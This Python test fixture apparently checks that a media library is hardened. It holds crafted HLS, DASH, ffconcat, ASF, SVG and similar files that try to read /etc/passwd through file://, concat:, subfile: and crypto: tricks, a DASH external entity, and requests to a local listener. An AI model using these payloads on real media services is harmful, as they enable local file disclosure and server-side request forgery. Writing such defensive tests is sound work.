"""Texts that make media libraries open other files and addresses, if one lets them.

LISTENER stands for an address that must see no connection.
"""

from __future__ import annotations

LISTENER = "http://127.0.0.1:00000/"
SECRET = "/etc/passwd"
_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n{}\n#EXT-X-ENDLIST\n"
_MPD = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1"><BaseURL>{}</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>"
)

PLAYLISTS: dict[str, tuple[str, str]] = {
    "hls-file": (".m3u8", _HLS.format(SECRET)),
    "hls-file-url": (".m3u8", _HLS.format(f"file://{SECRET}")),
    "hls-http": (".m3u8", _HLS.format(f"{LISTENER}a.ts")),
    "hls-concat": (".m3u8", _HLS.format(f"concat:{LISTENER}a|{SECRET}")),
    "hls-subfile": (".m3u8", _HLS.format(f"subfile,,start,0,end,64,,:{SECRET}")),
    "hls-crypto": (".m3u8", _HLS.format(f"crypto+file:{SECRET}")),
    "hls-key": (
        ".m3u8",
        _HLS.format(f'x\n#EXT-X-KEY:METHOD=AES-128,URI="{LISTENER}"\n#EXTINF:5,\n{SECRET}'),
    ),
    "hls-as-mp4": (".mp4", _HLS.format(SECRET)),
    "ffconcat-file": (".ffconcat", f"ffconcat version 1.0\nfile '{SECRET}'\n"),
    "ffconcat-http": (".txt", f"ffconcat version 1.0\nfile '{LISTENER}a.mp4'\n"),
    "dash-file": (".mpd", _MPD.format(f"file://{SECRET}")),
    "dash-http": (".mpd", _MPD.format(LISTENER)),
    "dash-entity": (
        ".mpd",
        _MPD.format("&x;").replace("?>", f'?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{SECRET}">]>'),
    ),
    "sdp": (
        ".sdp",
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        "m=video 3139 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    ),
    "asx": (".asf", f'<asx version="3.0"><entry><ref href="{LISTENER}a"/></entry></asx>'),
    "asf-reference": (".asf", f"[Reference]\r\nRef1={LISTENER}a\r\nRef2={SECRET}\r\n"),
    "imf": (
        ".xml",
        f'<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>{LISTENER}</Path>'
        "</AssetMap>",
    ),
    "avisynth": (".avs", f'DirectShowSource("{SECRET}")\n'),
    "lavfi": (".txt", f"movie={SECRET}"),
    "image-pattern": (".txt", "/etc/%*.png"),
    "svg-include": (
        ".svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{LISTENER}a.png"/><image xlink:href="file://{SECRET}"/></svg>',
    ),
}  # fmt: skip
